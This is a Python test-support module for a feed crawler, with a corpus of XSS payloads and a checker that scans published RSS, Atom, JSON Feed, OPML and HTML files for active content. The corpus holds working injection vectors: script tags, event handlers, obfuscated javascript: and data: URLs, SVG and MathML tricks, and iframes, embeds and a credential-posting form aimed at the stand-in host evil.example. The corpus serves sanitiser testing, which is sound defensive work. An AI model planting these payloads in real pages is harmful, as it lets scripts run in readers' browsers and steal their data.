"""An XSS payload corpus and a checker for active content in published files.

:data:`XSS_PAYLOADS` are article-body HTML fragments a hostile or broken CMS could
serve: script tags, event handlers, ``javascript:``/``data:`` URLs, SVG and MathML
tricks, broken markup, iframes, objects, forms, styles, entity-obfuscated schemes and
XML-forbidden characters. :func:`find_active_content` looks at a published file (RSS,
Atom, JSON Feed, OPML or the HTML index) the way the laxest reader would: it reads every
text and attribute the file carries as HTML (escaped HTML in XML, titles and names too,
every string of a JSON Feed, the page itself) and reports anything that could run or
load active content. The tests plant the corpus in
articles and require no finding; the end-to-end test against the replica's ``--xss``
mode reuses both.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterator

import lxml.html
from lxml import etree

XSS_PAYLOADS: tuple[str, ...] = (
    "<script>alert('xss-script')</script>",
    "<SCRIPT SRC=http://evil.example/xss.js></SCRIPT>",
    '<img src="x" onerror="alert(\'xss-onerror\')">',
    "<img src=x OnError=alert(1)//",
    "<a href=\"javascript:alert('xss-js-link')\">bấm vào đây</a>",
    '<a href="JaVaScRiPt:alert(1)">hoa thường</a>',
    '<a href="jav&#x09;ascript:alert(1)">tab</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">ncr</a>',
    '<a href=" javascript:alert(1)">space</a>',
    '<a href="vbscript:msgbox(1)">vb</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "<svg onload=alert('xss-svg')><circle r=1 /></svg>",
    '<svg><script>alert("svg-script")</script></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text>svg link</text></a></svg>',
    '<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph>"
    "</table></mtext></math>",
    "<iframe src=\"https://evil.example/\" onload=alert('xss-iframe')></iframe>",
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<object data="https://evil.example/x.swf" type="application/x-shockwave-flash"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<form action="https://evil.example/steal"><input name="p"><button>Gửi</button></form>',
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<p style="background-image:url(javascript:alert(1))">styled</p>',
    '<div onmouseover="alert(1)">hover</div>',
    '<body onload=alert("body")>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<p>broken <b>markup <i>never closed <script>alert('unclosed')",
    '<p title="</p><script>alert(1)</script>">attribute breakout</p>',
    "<!--<script>alert('comment')</script>-->",
    "<![CDATA[<script>alert('cdata')</script>]]>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<template><script>alert("template")</script></template>',
    '<video><source onerror="alert(1)"></video>',
    "<details open ontoggle=alert(1)>",
    '<a href="/Uploads/files/ok.pdf" target="_blank">relative link</a>',
    "<p>control chars: \x01\x08\x0b\x0c\x1f and &#1; &#x0B; end ]]> done</p>",
)

_ACTIVE_TAGS = frozenset(
    {
        "script", "style", "iframe", "frame", "frameset", "object", "embed", "applet",
        "form", "input", "button", "textarea", "select", "svg", "math", "base", "meta",
        "link", "noscript", "template", "audio", "video", "source", "details",
    }
)  # fmt: skip
#: Elements that would be active if a reader rendered the feed XML itself (RSS's own
#: <link> and <source> are not among them).
_XML_ACTIVE_TAGS = frozenset(
    {"script", "style", "iframe", "frame", "frameset", "object", "embed", "applet", "form",
     "svg", "math", "base"}
)  # fmt: skip
_URL_ATTRS = frozenset(
    {"href", "src", "action", "formaction", "data", "poster", "background", "cite", "srcdoc",
     "xlink:href", "srcset", "lowsrc", "dynsrc"}
)  # fmt: skip
_BAD_SCHEME = re.compile(r"^(javascript|vbscript|data|file):", re.IGNORECASE)
_INVISIBLE = re.compile(r"[\x00-\x20\x7f]+")
#: Elements whose text readers render as HTML: RSS description and content:encoded
#: (HTML by convention), Atom content/summary/title when type="html".
_CHAR_REF = re.compile(r"&#(?:[xX]([0-9a-fA-F]+)|([0-9]+));?")
_XML_CHAR = re.compile("[\u0009\u000a\u000d\u0020-\ud7ff\ue000-\ufffd\U00010000-\U0010ffff]")


def _harmless_reference(match: re.Match[str]) -> str:
    """A character reference lxml would refuse to hold (``&#1;``) is dropped: a
    control character does nothing in a page."""
    try:
        char = chr(int(match.group(1), 16) if match.group(1) else int(match.group(2)))
    except (ValueError, OverflowError):
        return ""
    return match.group(0) if _XML_CHAR.fullmatch(char) else ""


#: The index page's own files, published next to it (feeds/browser.py): its stylesheet
#: and its script, by relative name; any other stylesheet or script is a finding.
_PAGE_ASSETS = {("link", "href", "style.css"), ("script", "src", "index.js")}


def _own_asset(el: lxml.html.HtmlElement, tag: str) -> bool:
    if tag == "link" and el.get("rel") != "stylesheet":
        return False
    return (
        any(
            (tag, name, el.get(name)) in _PAGE_ASSETS and set(el.attrib) <= {name, "rel", "defer"}
            for name in ("href", "src")
        )
        and not (el.text or "").strip()
    )


def _html_findings(html: str, where: str, page: bool = False) -> Iterator[str]:
    if not html.strip():
        return
    html = _CHAR_REF.sub(_harmless_reference, html)
    root = (
        lxml.html.document_fromstring(html)
        if page
        else lxml.html.fragment_fromstring(html, create_parent="div")
    )
    for el in root.iter():
        if not isinstance(el.tag, str):
            continue
        tag = el.tag.lower()
        if tag in _ACTIVE_TAGS:
            allowed_head = page and (
                (
                    tag == "meta"
                    and set(el.attrib) <= {"charset", "name", "content"}
                    and el.get("name") in (None, "viewport")
                )
                or (tag == "link" and el.get("rel") == "alternate")
                or _own_asset(el, tag)
                # the page's folded sections: without attributes, so never ``ontoggle``
                or (tag == "details" and not el.attrib)
            )
            if not allowed_head:
                yield f"{where}: <{tag}> element"
        for name, value in el.attrib.items():
            lname = str(name).lower()
            if lname.startswith("on"):
                yield f"{where}: {lname}= attribute on <{tag}>"
            elif lname == "style":
                yield f"{where}: style= attribute on <{tag}>"
            elif (lname in _URL_ATTRS or lname.endswith("href")) and _BAD_SCHEME.match(
                _INVISIBLE.sub("", value)
            ):
                yield f"{where}: {lname}={value[:40]!r} on <{tag}>"


def find_active_content(data: bytes, kind: str) -> list[str]:
    """Active content found in a published file; ``kind`` is ``rss``, ``atom``,
    ``json``, ``opml``, ``html`` or ``asset`` (``feed.xsl``, ``style.css``, ``index.js``:
    the package's own, unchanged). An empty list means the file is clean.

    Every piece of text the file carries is read as HTML, whatever its slot: readers
    render RSS descriptions (channel and item) and content as HTML by convention, many
    render titles, categories, authors or OPML outlines the same way, and a page may
    show a feed's title or a JSON Feed's text unescaped. So a ``<script>`` in a title
    counts, as does one in an escaped description; text that reads as plain text in
    HTML (an escaped ``&lt;script&gt;``, a lone ``<``) does not."""
    findings: list[str] = []
    if kind in ("rss", "atom", "opml"):
        root = etree.fromstring(data)
        for el in root.iter():
            if not isinstance(el.tag, str):
                continue
            local = etree.QName(el).localname.lower()
            if local in _XML_ACTIVE_TAGS and etree.QName(el).namespace in (
                None,
                "http://www.w3.org/1999/xhtml",
                "http://www.w3.org/2000/svg",
            ):
                findings.append(f"XML element <{local}> in the file")
            if el.text and el.text.strip():
                findings += _html_findings(el.text, f"<{local}>")
            for name, value in el.attrib.items():
                if _BAD_SCHEME.match(_INVISIBLE.sub("", value)):
                    findings.append(f"<{local} {name}={value[:40]!r}>")
                elif "<" in value:
                    findings += _html_findings(value, f"<{local} {name}=...>")
    elif kind == "json":
        findings += _json_findings(json.loads(data), "")
    elif kind == "html":
        findings += _html_findings(data.decode("utf-8"), "page", page=True)
    elif kind == "asset":
        # the page's and the feeds' own static files: no data reaches them, so they must
        # be the package's, byte for byte (their script is reviewed as code, not here)
        from danvan_crawler.feeds.browser import asset_files, nested_feed_xsl

        if data not in (*asset_files().values(), nested_feed_xsl()):
            findings.append("a static file that is none of the package's assets")
    else:
        raise ValueError(f"unknown kind {kind!r}")
    return findings


#: JSON Feed members holding URLs.
_JSON_URLS = frozenset(
    {"url", "external_url", "image", "banner_image", "feed_url", "home_page_url", "icon",
     "favicon", "avatar", "next_url"}
)  # fmt: skip


def _json_findings(value: object, where: str) -> Iterator[str]:
    if isinstance(value, dict):
        for key, item in value.items():
            path = f"{where}.{key}" if where else str(key)
            if key in _JSON_URLS and isinstance(item, str):
                if _BAD_SCHEME.match(_INVISIBLE.sub("", item)):
                    yield f"{path}={item[:40]!r}"
                continue
            yield from _json_findings(item, path)
    elif isinstance(value, list):
        for index, item in enumerate(value):
            yield from _json_findings(item, f"{where}[{index}]")
    elif isinstance(value, str) and "<" in value:
        yield from _html_findings(value, where)


def kind_of(name: str) -> str | None:
    """The :func:`find_active_content` kind of a published file name (None: not ours)."""
    kinds = {"rss": "rss", "atom": "atom", "json": "json", "opml": "opml", "html": "html"}
    kinds |= dict.fromkeys(("xsl", "css", "js"), "asset")
    return kinds.get(name.rsplit(".", 1)[-1])
